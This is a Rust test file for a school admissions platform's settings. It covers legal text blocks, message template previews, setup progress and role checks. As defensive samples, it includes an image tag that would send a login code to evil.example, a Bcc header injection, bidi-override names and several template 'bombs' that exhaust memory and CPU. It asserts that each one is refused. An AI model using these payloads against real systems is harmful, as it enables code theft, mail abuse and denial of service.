//! The school's words on the desk: terms and privacy as blocks, messages as they arrive, and setting up.

use axum::http::Method;
use serde_json::{Value, json};
use testkit::{Backend, Client, Reply, TestApp};
use words::Role;

use crate::desk::{SETTINGS, edit, publish, save};

const LEGAL: &str = "/api/v1/oa/common/legal";

fn terms(value: Value) -> Value {
    json!({ "file": "texts/terms.json", "pointer": "", "value": value })
}

fn blocks(en: Value) -> Value {
    json!({ "en": en, "ar": [{ "kind": "paragraph", "text": "شروط {{school}}" }] })
}

#[tokio::test]
async fn terms_in_ones_own_words_are_previewed_published_and_filled() {
    for backend in Backend::all() {
        let app = TestApp::start(backend).await.unwrap();
        let (admin, visitor) = (app.signed_in("a", Role::SchoolAdmin).await.unwrap(), app.at("a"));
        let before = visitor.get(&format!("{LEGAL}?lng=en")).await.unwrap();
        assert_eq!((before.status, &before.json["terms"], &before.json["privacy"]), (200, &Value::Null, &Value::Null));
        let own = blocks(json!([
            { "kind": "heading", "text": "Terms of {{ school }}" },
            { "kind": "list", "items": ["**Write** to {{mail}}", "Read {{website}}"] },
        ]));
        let saved = save(&admin, 0, json!([terms(own.clone())])).await;
        assert_eq!((saved.status, &saved.json["problems"]), (200, &json!([])), "{}", saved.text);
        let opened = admin.post(&format!("{SETTINGS}/preview"), &json!({})).await.unwrap();
        let token = opened.json["token"].as_str().unwrap();
        let shown = |lng: &str| {
            let path = format!("{LEGAL}?lng={lng}");
            let visitor = visitor.clone();
            async move { visitor.ask(Method::GET, &path).header("x-preview", token).send().await.unwrap() }
        };
        let filled = json!([
            { "kind": "heading", "text": "Terms of School A" },
            { "kind": "list", "items": ["**Write** to admissions@a.example.org", "Read http://a.localhost:8080"] },
        ]);
        assert_eq!(shown("en").await.json["terms"], filled);
        assert_eq!(shown("ar").await.json["terms"][0]["text"], "شروط مدرسة a");
        assert_eq!(visitor.get(LEGAL).await.unwrap().json["terms"], Value::Null, "nothing of it is live");
        publish(&admin, json!([edit("/links/lic_website_url", json!("https://www.a.example"))])).await;
        let live = visitor.get(LEGAL).await.unwrap();
        assert_eq!(live.json["terms"][1]["items"][1], "Read https://www.a.example", "{}", live.text);
        assert_eq!(app.at("b").get(LEGAL).await.unwrap().json["terms"], Value::Null, "another school's");
        assert_eq!(visitor.get(&format!("{LEGAL}?lng=fr")).await.unwrap().status, 400);
    }
}

#[tokio::test]
async fn bad_blocks_are_refused_and_half_a_text_is_not_published() {
    let app = TestApp::start(Backend::Lite).await.unwrap();
    let admin = app.signed_in("a", Role::FormDesigner).await.unwrap();
    for (bad, code, pointer) in [
        (json!([{ "kind": "script", "text": "x" }]), "notAllowed", "/en/0/kind"),
        (json!([{ "kind": "heading", "text": ["x"] }]), "wrongType", "/en/0/text"),
        (json!([{ "kind": "note", "text": "x", "href": "https://x" }]), "unknownKey", "/en/0/href"),
        (json!([{ "kind": "list", "items": vec!["x"; 31] }]), "tooMany", "/en/0/items"),
        (json!([{ "kind": "paragraph", "text": "x".repeat(2001) }]), "tooLong", "/en/0/text"),
        (json!(vec![json!({ "kind": "note", "text": "x" }); 101]), "tooMany", "/en"),
    ] {
        let refused = save(&admin, 0, json!([terms(blocks(bad.clone()))])).await;
        let error = &refused.json["errors"][0];
        assert_eq!(
            (refused.status, error["code"].as_str(), error["params"]["pointer"].as_str()),
            (422, Some(code), Some(pointer)),
            "{bad}: {}",
            refused.text
        );
    }
    // What the next edit may mend is kept in the draft, told, and not published.
    let admin = app.signed_in("a", Role::SchoolAdmin).await.unwrap();
    let halves = [
        (json!({ "en": [{ "kind": "note", "text": "x" }], "ar": [] }), "missingLanguage", "/ar"),
        (blocks(json!([{ "kind": "note", "text": "Dear {{parent}}" }])), "unknownField", "/en/0/text"),
        (blocks(json!([{ "kind": "note", "text": " " }])), "emptyText", "/en/0/text"),
    ];
    for (version, (half, code, pointer)) in halves.into_iter().enumerate() {
        let saved = save(&admin, version as i64, json!([terms(half)])).await;
        let problem = &saved.json["problems"][0];
        assert_eq!(
            (saved.status, problem["code"].as_str(), problem["pointer"].as_str(), problem["file"].as_str()),
            (200, Some(code), Some(pointer), Some("texts/terms.json")),
            "{}",
            saved.text
        );
        assert!(problem["hint"].is_string() || code == "emptyText", "{problem}");
        let body = json!({ "version": version + 1, "note": "" });
        let refused = admin.post(&format!("{SETTINGS}/publish"), &body).await.unwrap();
        assert_eq!((refused.status, refused.message_id()), (422, "S001"), "{}", refused.text);
    }
}

async fn look(client: &Client, name: &str, channel: &str, locale: &str, text: &str) -> Reply {
    let asked = json!({ "name": name, "channel": channel, "locale": locale, "text": text });
    client.post(&format!("{SETTINGS}/messages/preview"), &asked).await.unwrap()
}

#[tokio::test]
async fn messages_are_listed_and_looked_at_as_they_arrive() {
    let app = TestApp::start(Backend::Lite).await.unwrap();
    let admin = app.signed_in("a", Role::SchoolAdmin).await.unwrap();
    let own = "Subject: رمزكم\n\n{{ greeting }}\n\n{{ code }}\n";
    let set = json!({ "file": "mail/code.ar.txt", "pointer": "", "value": own });
    assert_eq!(save(&admin, 0, json!([set])).await.status, 200);
    let listed = admin.get(&format!("{SETTINGS}/messages")).await.unwrap().json;
    let items = listed["items"].as_array().unwrap();
    assert_eq!(items.len(), tenants::message::Kind::schools().count());
    assert!(!listed.to_string().contains("settings_changed"), "news of a change of words is in ours");
    let code = items.iter().find(|item| item["name"] == "code").unwrap();
    assert_eq!(
        (&code["channels"], &code["fields"][0]),
        (&json!(["mail", "sms"]), &json!({ "name": "code", "needed": true }))
    );
    let invitation = items.iter().find(|item| item["name"] == "invitation").unwrap();
    assert_eq!((&invitation["channels"], &invitation["fields"][0]["name"]), (&json!(["mail"]), &json!("url")));
    let texts = code["texts"].as_array().unwrap();
    let of = |file: &str| texts.iter().find(|text| text["file"] == file).unwrap();
    assert_eq!(
        (texts.len(), &of("mail/code.ar.txt")["own"], &of("mail/code.en.txt")["own"]),
        (4, &json!(own), &Value::Null)
    );
    assert!(of("sms/code.en.txt")["standard"].as_str().unwrap().contains("{{ code }}"));

    let mail = look(&admin, "code", "mail", "ar", own).await;
    let message = &mail.json["message"];
    assert_eq!((mail.status, message["subject"].as_str()), (200, Some("رمزكم")), "{}", mail.text);
    assert!(message["text"].as_str().unwrap().contains("نور البلوشي"), "{message}");
    let html = message["html"].as_str().unwrap();
    assert!(html.contains("dir=\"rtl\"") && html.contains("123456") && html.contains("#2f4858"), "{html}");
    let sms = look(&admin, "code", "sms", "en", "Code {{ code }}").await.json;
    assert_eq!(sms["message"], json!({ "subject": "", "text": "Code 123456\n", "html": "" }));
    // A page of a school's own could send the code to whoever its pictures are asked of.
    let page = "<img src=\"https://evil.example/{{ code }}\">";
    let page = json!({ "file": "mail/code.ar.html", "pointer": "", "value": page });
    let refused = save(&admin, 1, json!([page])).await;
    assert_eq!((refused.status, &refused.json["errors"][0]["code"]), (422, &json!("unknownFile")), "{}", refused.text);

    for (name, channel, text, path, code) in [
        ("code", "mail", "Subject: x\n\n{{ cod }}", "/text", "badTemplate"),
        ("code", "mail", "no subject", "/text", "badTemplate"),
        ("tracking", "mail", "Subject: x\n\nDear {{ child|upper }}{% if %}", "/text", "badTemplate"),
        ("invitation", "sms", "x", "/channel", "notByThisWay"),
        ("nothing", "mail", "x", "/name", "unknownMessage"),
    ] {
        let refused = look(&admin, name, channel, "en", text).await;
        let error = &refused.json["errors"][0];
        assert_eq!(
            (refused.status, error["path"].as_str(), error["code"].as_str()),
            (422, Some(path), Some(code)),
            "{text}: {}",
            refused.text
        );
    }
    let wrong = look(&admin, "code", "mail", "en", "Subject: x\n\n{{ cod }}").await;
    assert_eq!(wrong.json["errors"][0]["params"]["line"], 3, "{}", wrong.text);
    assert!(wrong.json["errors"][0]["params"]["message"].as_str().unwrap().contains("`cod`"), "{}", wrong.text);
    let officer = app.signed_in("a", Role::AdmissionsOfficer).await.unwrap();
    assert_eq!(look(&officer, "code", "mail", "en", own).await.message_id(), "A002");
}

/// Texts that ate gigabytes and minutes while they were programs.
const BOMBS: [&str; 9] = [
    "{% set a = \"x\" * 1000000 %}{% set a = a ~ a %}{% set a = a ~ a %}{{ code }}",
    "{{ \"x\" * 100000000 }}{{ code }}",
    "{{ [1]|slice(100000000)|list|length }}{{ code }}",
    "{{ [1]|batch(99999999, 0) }}{{ code }}",
    "{{ \"%300000000d\"|format(1) }}{{ code }}",
    "{{ \"x\"|indent(1000000000) }}{{ code }}",
    "{{ range(99999)|map(\"string\")|join(\"x\" * 10000) }}{{ code }}",
    "{% for i in range(60) %}{% set a = \"x\" * 100000000 %}{% endfor %}{{ code }}",
    "{% if \"token=sample\" not in url %}{{ \"x\" * 100000000 }}{% endif %}{{ code }}{{ debug() }}",
];

#[tokio::test]
async fn texts_are_data_wherever_they_come_in() {
    let app = TestApp::start(Backend::Lite).await.unwrap();
    let admin = app.signed_in("a", Role::SchoolAdmin).await.unwrap();
    let auditor = app.signed_in("a", Role::Auditor).await.unwrap();
    for (n, bomb) in BOMBS.into_iter().enumerate() {
        let text = format!("Subject: t\n\n{bomb}\n");
        let looked = look(&auditor, "code", "mail", "en", &text).await;
        let error = &looked.json["errors"][0];
        assert_eq!(
            (looked.status, error["path"].as_str(), error["code"].as_str(), error["params"]["line"].as_i64()),
            (422, Some("/text"), Some("notInTexts"), Some(3)),
            "{bomb}: {}",
            looked.text
        );
        let set = json!({ "file": "mail/code.en.txt", "pointer": "", "value": text });
        let saved = save(&admin, i64::try_from(n).unwrap(), json!([set])).await;
        let found = |problems: &Value| {
            let problems = problems.as_array().unwrap().iter();
            problems.filter(|one| one["code"] == "notInTexts" && one["line"] == 3).count()
        };
        assert_eq!((saved.status, found(&saved.json["problems"])), (200, 1), "{bomb}: {}", saved.text);
        let body = json!({ "version": n + 1, "note": "" });
        let refused = admin.post(&format!("{SETTINGS}/publish"), &body).await.unwrap();
        assert_eq!((refused.status, refused.message_id()), (422, "S001"), "{bomb}: {}", refused.text);
        assert_eq!(found(&refused.json["problems"]), 1, "{}", refused.text);
    }
    // By hand in the bundle: never filled, and the built-in words go out.
    let folder = app.folder.path().join("schools/a/mail");
    std::fs::create_dir_all(&folder).unwrap();
    std::fs::write(folder.join("code.en.txt"), format!("Subject: t\n\n{}\n", BOMBS[0])).unwrap();
    app.app.registry.poll();
    let found = app.app.registry.check(Some("a")).unwrap();
    assert!(found["a"].iter().any(|one| one.code == "notInTexts" && one.line == 3), "{found:?}");
    for (text, code) in [
        ("x".repeat(20 * 1024 + 1), "textTooLong"),
        (format!("Subject: x\n\n{}", "{{school}}".repeat(2_000)), ""),
        (format!("Subject: x\n\n{}", "{{until}}{{site}}".repeat(1_200)), ""),
        ("Subject: x\n\n{{ url }}".to_owned(), "badTemplate"),
    ] {
        let looked = look(&auditor, "code", "mail", "en", &text).await;
        assert_eq!(looked.json["errors"][0]["code"].as_str().unwrap_or_default(), code, "{}", looked.text);
    }
}

#[tokio::test]
async fn a_text_message_is_bounded_wherever_it_comes_in() {
    let app = TestApp::start(Backend::Lite).await.unwrap();
    let admin = app.signed_in("a", Role::SchoolAdmin).await.unwrap();
    for (n, (locale, text)) in [("en", "x".repeat(10_000)), ("ar", "س".repeat(262))].into_iter().enumerate() {
        let text = format!("{{{{ code }}}} {text}");
        let looked = look(&admin, "code", "sms", locale, &text).await;
        let error = &looked.json["errors"][0];
        assert_eq!(
            (looked.status, error["path"].as_str(), error["code"].as_str()),
            (422, Some("/text"), Some("smsTooLong")),
            "{}",
            looked.text
        );
        let file = format!("sms/code.{locale}.txt");
        let set = json!({ "file": file, "pointer": "", "value": text });
        let saved = save(&admin, i64::try_from(n).unwrap(), json!([set])).await;
        let found = |problems: &Value| {
            problems.as_array().unwrap().iter().any(|one| one["code"] == "smsTooLong" && one["file"] == file.as_str())
        };
        assert!(saved.status == 200 && found(&saved.json["problems"]), "{}", saved.text);
        let body = json!({ "version": n + 1, "note": "" });
        let refused = admin.post(&format!("{SETTINGS}/publish"), &body).await.unwrap();
        assert_eq!((refused.status, refused.message_id()), (422, "S001"), "{}", refused.text);
        assert!(found(&refused.json["problems"]), "{}", refused.text);
    }
    assert_eq!(look(&admin, "code", "sms", "ar", &format!("{{{{ code }}}} {}", "س".repeat(261))).await.status, 200);
}

#[tokio::test]
async fn a_name_is_one_line_that_turns_nothing() {
    let app = TestApp::start(Backend::Lite).await.unwrap();
    let admin = app.signed_in("a", Role::SchoolAdmin).await.unwrap();
    for (n, (pointer, name)) in
        [("/name/en", "A\r\nBcc: x@evil.example"), ("/name/ar", "مد\u{202E}رسة"), ("/mail_name", "A\u{2067}B")]
            .into_iter()
            .enumerate()
    {
        let saved = save(&admin, i64::try_from(n).unwrap(), json!([edit(pointer, json!(name))])).await;
        let found = |problems: &Value| {
            problems.as_array().unwrap().iter().any(|one| one["code"] == "badName" && one["pointer"] == pointer)
        };
        assert!(saved.status == 200 && found(&saved.json["problems"]), "{}", saved.text);
        let body = json!({ "version": n + 1, "note": "" });
        let refused = admin.post(&format!("{SETTINGS}/publish"), &body).await.unwrap();
        assert_eq!((refused.status, refused.message_id()), (422, "S001"), "{}", refused.text);
    }
}

#[tokio::test]
async fn setting_up_is_done_by_doing() {
    for backend in Backend::all() {
        let app = TestApp::start(backend).await.unwrap();
        let admin = app.signed_in("a", Role::SchoolAdmin).await.unwrap();
        let state = async || admin.get(&format!("{SETTINGS}/setup")).await.unwrap().json["setup"].clone();
        assert_eq!(state().await, json!({ "finished": false, "skipped": [], "done": [] }));
        let change = async |body: Value| {
            admin.ask(Method::PATCH, &format!("{SETTINGS}/setup")).json(&body).send().await.unwrap()
        };
        let skipped = change(json!({ "skipped": ["entry", "logo", "entry"] })).await;
        assert_eq!(skipped.json["setup"]["skipped"], json!(["logo", "entry"]), "{}", skipped.text);
        assert_eq!(save(&admin, 0, json!([edit("/branding/colours/primary", json!("#123456"))])).await.status, 200);
        assert_eq!(state().await["done"], json!(["colours"]), "the draft counts");
        publish(&admin, json!([edit("/schoolDates/0/year", json!("2028-2029"))])).await;
        assert_eq!(state().await["done"], json!(["colours", "dates", "publish"]));
        app.person("a", Role::Auditor).await.unwrap();
        let finished = change(json!({ "finished": true })).await;
        assert_eq!(
            finished.json["setup"],
            json!({ "finished": true, "skipped": ["logo", "entry"], "done": ["colours", "dates", "colleague", "publish"] })
        );
        assert_eq!(change(json!({ "finished": false })).await.json["setup"]["finished"], false);
        assert_eq!(change(json!({ "skipped": ["everything"] })).await.status, 400);
        let designer = app.signed_in("a", Role::FormDesigner).await.unwrap();
        assert_eq!(designer.get(&format!("{SETTINGS}/setup")).await.unwrap().status, 200);
        let refused = designer.ask(Method::PATCH, &format!("{SETTINGS}/setup")).json(&json!({})).send().await.unwrap();
        assert_eq!(refused.message_id(), "A002");
        assert_eq!(
            app.signed_in("b", Role::SchoolAdmin).await.unwrap().get(&format!("{SETTINGS}/setup")).await.unwrap().json
                ["setup"]["done"],
            json!([])
        );
    }
}

#[tokio::test]
async fn a_school_at_work_is_not_asked_to_set_up() {
    for backend in Backend::all() {
        let app = TestApp::start(backend).await.unwrap();
        for school in ["a", "b"] {
            let form = app.school(school).unwrap().form("new").unwrap();
            let values = form.sample(None, jiff::civil::date(2026, 11, 21)).unwrap();
            let sent = app
                .at(school)
                .ask(Method::POST, "/api/v1/oa/public/forms/new/submissions")
                .header("idempotency-key", "a-key-of-some-length")
                .json(&json!({ "values": values, "locale": "en" }))
                .send()
                .await
                .unwrap();
            assert_eq!(sent.status, 201, "{}", sent.text);
        }
        let quick = app.signed_in("b", Role::SchoolAdmin).await.unwrap();
        let told = quick.get(&format!("{SETTINGS}/setup")).await.unwrap().json["setup"].clone();
        assert_eq!(told["finished"], false, "a family may be quicker than the first administrator");
        app.clock.advance(8 * 86_400_000);
        let admin = app.signed_in("a", Role::SchoolAdmin).await.unwrap();
        let state = async || admin.get(&format!("{SETTINGS}/setup")).await.unwrap().json["setup"].clone();
        assert_eq!(state().await, json!({ "finished": true, "skipped": [], "done": [] }));
        // Whoever began goes on, whatever comes in meanwhile.
        assert_eq!(save(&admin, 0, json!([edit("/branding/colours/primary", json!("#123456"))])).await.status, 200);
        assert_eq!(state().await, json!({ "finished": false, "skipped": [], "done": ["colours"] }));
    }
}
